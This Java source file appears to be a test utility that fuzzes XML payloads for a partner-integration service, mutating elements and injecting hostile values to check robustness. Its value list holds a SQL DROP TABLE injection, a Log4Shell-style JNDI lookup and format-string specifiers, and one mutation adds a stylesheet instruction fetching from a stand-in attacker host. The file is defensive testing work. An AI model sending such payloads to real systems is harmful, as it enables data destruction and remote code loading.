package org.coconnect.support;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * Hostile changes to a well-formed payload, the kind a broken or malicious partner system produces: an
 * element dropped, repeated, moved, renamed or emptied, a value replaced by something no schema author
 * expected, attributes and markup nobody asked for. Driven by a seeded {@link Random}, so a failing run
 * can be repeated from its seed; each change is described, so a failure names what was sent.
 */
public final class PayloadMutator {

    private static final String XSI = "http://www.w3.org/2001/XMLSchema-instance";
    private static final String XMLNS = "http://www.w3.org/2000/xmlns/";

    /** Values that break types, patterns, ranges, lengths, encodings and the systems behind them. */
    static final List<String> HOSTILE_VALUES = List.of(
            "", " ", "\t\n ", "x".repeat(5_000), "A".repeat(70_000), "ü€😀\u0301", "\u202Egnp.exe", "\u00a0",
            "<b>&amp;</b>", "]]>", "'; DROP TABLE certificate;--", "${jndi:ldap://x/a}", "%s%n%x", "-1", "0",
            "1e999", "99999999999999999999999999999999", "-0.0", "NaN", "INF", "0x1F", "1,5", "+1", "00000001",
            "0000-01-01", "9999-12-31", "2026-02-30", "2026-13-01T00:00:00Z", "2026-01-01T25:61:61",
            "-999999999-01-01T00:00:00Z", "999999999-12-31T23:59:59.999999999Z", "2025-03-14T10:30:00+14:01",
            "00000000-0000-0000-0000-000000000000", "not-a-uuid", "6f1c2a4e-8b3d-4c5e-9a7f-0b1c2d3e4f5",
            "true", "false", "1", "yes", "ZZ", "kr", "KR ", "XX-99", "\ufffd", "\ud83d\ude00".repeat(1_000));

    private final Random random;

    public PayloadMutator(Random random) {
        this.random = random;
    }

    /** Applies one to three changes to the payload, in place, and says which. */
    public String mutate(Element payload) {
        int changes = 1 + random.nextInt(3);
        var done = new ArrayList<String>();
        for (int i = 0; i < changes; i++) {
            List<Element> elements = descendants(payload);
            if (elements.isEmpty()) {
                break;
            }
            done.add(mutateOne(payload, elements.get(random.nextInt(elements.size()))));
        }
        return String.join("; ", done);
    }

    private String mutateOne(Element payload, Element target) {
        Document doc = target.getOwnerDocument();
        String where = path(target);
        switch (random.nextInt(11)) {
            case 0 -> {
                target.getParentNode().removeChild(target);
                return "removed " + where;
            }
            case 1 -> {
                int copies = random.nextBoolean() ? 1 : 200;
                for (int i = 0; i < copies; i++) {
                    target.getParentNode().insertBefore(target.cloneNode(true), target);
                }
                return "repeated " + where + " " + copies + " more times";
            }
            case 2, 3, 4 -> {
                String value = HOSTILE_VALUES.get(random.nextInt(HOSTILE_VALUES.size()));
                target.setTextContent(value);
                return "set " + where + " to a " + value.length() + "-character value starting "
                        + printable(value.substring(0, Math.min(12, value.length())));
            }
            case 5 -> {
                Node next = target.getNextSibling();
                while (next != null && next.getNodeType() != Node.ELEMENT_NODE) {
                    next = next.getNextSibling();
                }
                if (next == null) {
                    return "kept " + where + " (no next sibling to swap with)";
                }
                target.getParentNode().insertBefore(next, target);
                return "swapped " + where + " with its next sibling";
            }
            case 6 -> {
                String namespace = random.nextBoolean() ? "urn:evil:1" : target.getNamespaceURI();
                doc.renameNode(target, namespace, target.getLocalName() + (random.nextBoolean() ? "" : "X"));
                return "renamed " + where + " into " + namespace;
            }
            case 7 -> {
                addAttribute(target);
                return "added an attribute to " + where;
            }
            case 8 -> {
                return "added " + addMarkup(doc, target) + " to " + where;
            }
            case 9 -> {
                List<Element> all = descendants(payload);
                Element newParent = all.get(random.nextInt(all.size()));
                if (target.isSameNode(newParent) || isAncestor(target, newParent)) {
                    return "kept " + where + " (cannot move into itself)";
                }
                newParent.appendChild(target);
                return "moved " + where + " into " + path(newParent);
            }
            default -> {
                Element deepest = target;
                for (int i = 0; i < 40; i++) {
                    Element child = doc.createElementNS(target.getNamespaceURI(), "Nested");
                    deepest.appendChild(child);
                    deepest = child;
                }
                return "nested 40 unknown elements in " + where;
            }
        }
    }

    private void addAttribute(Element target) {
        switch (random.nextInt(5)) {
            case 0 -> {
                target.setAttributeNS(XMLNS, "xmlns:xsi", XSI);
                target.setAttributeNS(XSI, "xsi:nil", "true");
            }
            case 1 -> {
                // Type substitution: a schema that let it through would validate nothing below this element.
                target.setAttributeNS(XMLNS, "xmlns:xsi", XSI);
                target.setAttributeNS(XMLNS, "xmlns:xs", "http://www.w3.org/2001/XMLSchema");
                target.setAttributeNS(XSI, "xsi:type", "xs:anyType");
            }
            case 2 -> target.setAttributeNS("http://www.w3.org/XML/1998/namespace", "xml:lang", "ko");
            case 3 -> target.setAttributeNS("http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd",
                    "wsu:Id", "Body-1");
            default -> target.setAttribute("unexpected", "x".repeat(random.nextInt(10_000)));
        }
    }

    private String addMarkup(Document doc, Element target) {
        Node node = switch (random.nextInt(3)) {
            // "--" is not allowed in a comment: the payload is no longer well-formed, as from a broken serializer.
            case 0 -> doc.createComment(random.nextBoolean() ? " a comment in the payload " : " a comment -- in the payload ");
            case 1 -> doc.createProcessingInstruction("xml-stylesheet", "href=\"http://attacker.example/x.xsl\"");
            default -> doc.createCDATASection("<CertificateNumber>FORGED</CertificateNumber>");
        };
        target.appendChild(node);
        return node instanceof org.w3c.dom.Comment c ? "comment '" + c.getData() + "'" : node.getNodeName();
    }

    private static List<Element> descendants(Element root) {
        var all = new ArrayList<Element>();
        collect(root, all);
        return all;
    }

    private static void collect(Element element, List<Element> into) {
        for (Node child = element.getFirstChild(); child != null; child = child.getNextSibling()) {
            if (child instanceof Element e) {
                into.add(e);
                collect(e, into);
            }
        }
    }

    private static boolean isAncestor(Element ancestor, Node node) {
        for (Node n = node.getParentNode(); n != null; n = n.getParentNode()) {
            if (n.isSameNode(ancestor)) {
                return true;
            }
        }
        return false;
    }

    private static String path(Element element) {
        var steps = new ArrayList<String>();
        for (Node n = element; n instanceof Element e; n = n.getParentNode()) {
            steps.add(0, e.getLocalName());
        }
        return "/" + String.join("/", steps);
    }

    private static String printable(String text) {
        var out = new StringBuilder();
        text.codePoints().forEach(c -> out.append(c >= 0x20 && c < 0x7f ? Character.toString(c) : String.format("\\u%04x", c)));
        return out.toString();
    }
}
